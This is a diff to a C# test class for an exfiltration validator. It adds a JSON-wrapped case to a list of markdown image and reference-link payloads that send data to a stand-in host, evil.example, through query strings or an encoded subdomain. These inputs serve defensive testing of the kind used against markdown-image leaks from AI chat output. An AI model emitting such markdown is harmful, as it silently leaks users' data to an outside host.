@@ -20,6 +20,7 @@ public sealed class ExfiltrationValidatorTests
     [InlineData("![x](<https://evil.example/p.png?d=a secret>)", ExfiltrationRules.Image)]
     [InlineData("![x](\n https://evil.example/p.png?d=abc \"title\")", ExfiltrationRules.Image)]
     [InlineData("![ref]\n\n[ref]: https://evil.example/?d=abc\n", ExfiltrationRules.Image)]
+    [InlineData("{\"md\": \"![ref]\\n\\n[ref]: https://evil.example/?d=abc\\n\"}", ExfiltrationRules.Image)]
     [InlineData("![a][]\n\n[a]: https://evil.example/?d=abc ", ExfiltrationRules.Image)]
     [InlineData("[![x](https://evil.example/?d=abc)](https://good.example)", ExfiltrationRules.Image)]
     [InlineData("![x](https://c2VjcmV0MTIzNDU2.evil.example/x.png)", ExfiltrationRules.Image)]
